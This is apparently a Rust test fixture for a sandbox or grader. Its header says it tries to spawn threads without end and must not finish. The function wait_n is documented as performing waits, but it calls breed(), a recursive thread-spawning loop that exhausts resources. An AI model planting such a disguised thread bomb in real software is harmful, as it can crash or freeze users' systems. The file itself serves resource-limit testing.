// Tries: to start threads that start threads, without end.
// Must not pass: finishes
//! Several waits at once.

use std::thread::Builder;

/// Waits several times at once.
pub async fn wait_n(n: usize, max_delay: u32) -> Vec<f64> {
    breed();
    vec![n as f64 + f64::from(max_delay)]
}

fn breed() {
    loop {
        let _ = Builder::new().stack_size(1 << 14).spawn(breed);
    }
}
